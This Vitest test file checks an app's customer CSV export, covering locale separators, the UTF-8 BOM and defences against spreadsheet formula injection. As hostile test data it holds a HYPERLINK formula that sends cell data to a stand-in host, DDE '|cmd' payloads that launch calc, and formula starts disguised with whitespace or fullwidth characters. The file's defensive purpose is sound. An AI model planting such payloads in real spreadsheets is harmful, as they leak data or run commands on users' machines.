import './warsaw-time.test-support'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { createDispatch } from '../../ipc/dispatch'
import { createHandlers } from '../create-handlers'
import { createTestPorts } from '../../../../tests/host/test-ports'
import { fodsTables, libreOfficeToFods, parseCsv } from '../../../../tests/support/spreadsheet-reader'
import { startsLikeFormula } from '@shared/export/formula-safety'
import { beginInput, customerColumns, customerRow, sampleCustomers } from './export-fixtures.test-support'


let folder: string
beforeEach(() => (folder = mkdtempSync(join(tmpdir(), 'regulars-csv-'))))
afterEach(() => rmSync(folder, { recursive: true, force: true }))

async function exportCsv(locale: string, name: string, rows = sampleCustomers.map(customerRow)): Promise<string> {
  const target = join(folder, name)
  const { ports, dialogCalls } = createTestPorts({ dataDir: folder, answers: { savePath: target }, now: () => new Date(2026, 2, 5) })
  const dispatch = createDispatch(createHandlers(ports))
  const call = async (channel: string, input: unknown) => {
    const answer = await dispatch(channel, input)
    if (!answer.ok) throw new Error(`${answer.error.code}: ${answer.error.message}`)
    return answer.data as { exportId: string }
  }
  const { exportId } = await call('export:begin', beginInput({ format: 'csv', locale, fileTypeName: 'CSV' }))
  expect(dialogCalls[0].options.defaultName).toBe('klienci-2026-03-05_00-00-00.csv')
  await call('export:rows', { exportId, sheet: 'customers', rows })
  await call('export:finish', { exportId })
  return target
}

const column = (key: string) => customerColumns.findIndex((c) => c.key === key)

describe('export to CSV', () => {
  it('writes UTF-8 with a BOM, ";" where the decimal mark is a comma, and neutralises formula starts', async () => {
    const bytes = readFileSync(await exportCsv('pl', 'klienci.csv'))
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const text = bytes.toString('utf8').slice(1)
    expect(text.endsWith('\r\n')).toBe(true)
    const rows = parseCsv(text, ';')
    expect(rows[0][column('totalValue')]).toBe('Wartość łączna (PLN)')
    expect(rows).toHaveLength(1 + sampleCustomers.length)
    sampleCustomers.forEach((customer, index) => {
      const row = rows[index + 1]
      expect(row).toHaveLength(customerColumns.length)
      expect(row[column('name')]).toBe(startsLikeFormula(customer.name) ? `'${customer.name}` : customer.name)
      expect(row[column('totalValue')]).toBe(customer.totalValue === null ? '' : (customer.totalValue / 100).toFixed(2).replace('.', ','))
      expect(row[column('blocked')]).toBe(customer.blocked ? 'Tak' : 'Nie')
    })
    const hostile = rows[1 + sampleCustomers.findIndex((c) => c.notes.startsWith('=HYPERLINK'))]
    expect(hostile[column('notes')]).toBe('\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")')
    const sneaky = rows[1 + sampleCustomers.findIndex((c) => c.phone === '-2+3')]
    expect([sneaky[column('phone')], sneaky[column('email')], sneaky[column('notes')]]).toEqual(["'-2+3", "'+1+1", "'\t=1+1"])
    expect(rows[1][column('createdAt')]).toBe('2026-01-15 09:30')
    expect(rows[1][column('consentEmailAt')]).toBe('2026-01-15')
    expect(rows[1][column('discount')]).toBe('10%')
  })

  it('uses "," and "." in English', async () => {
    const rows = parseCsv(readFileSync(await exportCsv('en', 'customers.csv'), 'utf8').slice(1), ',')
    expect(rows[1][column('totalValue')]).toBe('1234.50')
    expect(rows[4][column('name')]).toBe('Françoise Lefèvre-Œuvray')
  })
})

describe('export to CSV, opened in LibreOffice', () => {
  it('reads every hostile value as text, the names intact, the totals as numbers', async () => {
    const file = await exportCsv('pl', 'klienci.csv')
    // A Polish LibreOffice opening it: separator ";", UTF-8, and "Evaluate formulas" ticked (the worst case:
    // an unprefixed =1+1 would become a formula).
    const [table] = fodsTables(libreOfficeToFods(file, 'Text - txt - csv (StarCalc):59,34,76,1,,1045,false,true,false,false,false,-1,true,true'))
    for (const row of table.rows) for (const cell of row) expect(cell?.formula, JSON.stringify(cell)).toBeUndefined()
    sampleCustomers.forEach((customer, index) => {
      const row = table.rows[index + 1]
      expect(row[column('name')]?.type).toBe('string')
      if (!startsLikeFormula(customer.name)) expect(row[column('name')]?.value).toBe(customer.name)
      // The apostrophe OWASP advises stays visible in LibreOffice: the text is shown, never run.
      if (/^[=+\-@]/.test(customer.notes)) expect(row[column('notes')]).toEqual({ type: 'string', value: `'${customer.notes}` })
      if (customer.phone === '-2+3') expect(row[column('phone')]).toEqual({ type: 'string', value: "'-2+3" })
      if (customer.totalValue) expect(row[column('totalValue')]).toMatchObject({ type: 'float', value: String(customer.totalValue / 100) })
    })
  }, 120_000)
})

describe('CSV formula starts hidden behind whitespace, in fullwidth forms, or as a DDE pipe', () => {
  // Each of these is a formula in some program once the field is trimmed, folded to ASCII or read as DDE.
  const hidden = [' =1+1', '  +1+1', ' \t-1+1', ' @SUM(1;2)', '\u3000=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1;2)', '|cmd', " |cmd '/C calc'!A0"]
  const hostileRows = () => hidden.map((text) => customerRow({ ...sampleCustomers[1], name: text, notes: text }))

  it('prefixes each with the apostrophe OWASP advises', async () => {
    const rows = parseCsv(readFileSync(await exportCsv('pl', 'ukryte.csv', hostileRows()), 'utf8').slice(1), ';')
    hidden.forEach((text, index) => {
      expect(rows[index + 1][column('name')], JSON.stringify(text)).toBe(`'${text}`)
      expect(rows[index + 1][column('notes')], JSON.stringify(text)).toBe(`'${text}`)
    })
  })

  it('stays text in LibreOffice even with "Trim spaces" and "Evaluate formulas" ticked', async () => {
    const file = await exportCsv('pl', 'ukryte.csv', hostileRows())
    // Token 11 (trim spaces) true: unprefixed, " =1+1" becomes the formula =1+1 there.
    const [table] = fodsTables(libreOfficeToFods(file, 'Text - txt - csv (StarCalc):59,34,76,1,,1045,false,true,false,false,true,-1,true,true'))
    for (const row of table.rows) for (const cell of row) expect(cell?.formula, JSON.stringify(cell)).toBeUndefined()
    hidden.forEach((_text, index) => expect(table.rows[index + 1][column('notes')]?.type).toBe('string'))
  }, 120_000)
})
